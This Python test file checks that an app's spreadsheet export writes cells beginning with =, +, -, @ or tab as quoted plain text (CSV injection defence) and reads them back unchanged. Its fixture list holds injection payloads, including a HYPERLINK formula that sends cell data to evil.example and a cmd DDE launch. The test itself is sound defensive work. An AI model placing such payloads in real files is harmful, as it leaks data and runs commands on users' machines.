"""Step 3's text in the workbook: practices and actions that start with = + - @ are written as
text, never as formulas, and read back exactly (OWASP "CSV injection")."""

import io

import pytest

from widgets.files import workbook
from widgets.model import Action, Practice, ProgressEntry, Unit

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)",
            "+cmd|' /C calc'!A0", "-2+3", "=1+1", "'=already quoted", "\t=tab first"]


@pytest.fixture
def inquiry(store, slug):
    store.replace_units(slug, [Unit("F1", 1.0), Unit("F2", 0.0)], [])
    for name in ("@Dawn", "=Lee"):
        store.add_person(slug, name, "lived")
    for i, text in enumerate(FORMULAS):
        store.add_practice(slug, Practice(text, how=text, why=text, accessible="yes",
                                          from_units=["F1"]))
        store.add_action(slug, Action(text, leads=["@Dawn", "=Lee"], when=text,
                                      publicity=text, professional_terms=text))
        store.add_progress(slug, ProgressEntry(f"2024-0{i + 1}-01", attendance=i, note=text))
    return store.get(slug)


def test_no_cell_is_a_formula_and_text_comes_back(inquiry):
    from openpyxl import load_workbook

    data = workbook.to_bytes(inquiry)
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t")), \
                        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
    # Every hostile text is in the workbook, behind the quote that makes it plain text.
    for text in FORMULAS:
        assert "'" + text in texts
    back = workbook.from_bytes(data)
    assert [(p.what, p.how, p.why) for p in back.practices] == \
        [(t, t, t) for t in FORMULAS]
    assert [(a.what, a.leads, a.when, a.publicity, a.professional_terms)
            for a in back.actions] == [(t, ["@Dawn", "=Lee"], t, t, t) for t in FORMULAS]
    assert [e.note for e in back.progress] == FORMULAS
    assert [p.name for p in back.group] == ["@Dawn", "=Lee"]


def test_the_same_with_the_openpyxl_reader_values_only(inquiry):
    """A spreadsheet program reads what openpyxl reads: no cell value is a formula."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(workbook.to_bytes(inquiry)), data_only=False)
    sheet = book["Practices"]
    values = [v for row in sheet.iter_rows(min_row=2, values_only=True) for v in row]
    assert "'=1+1" in values and "=1+1" not in values
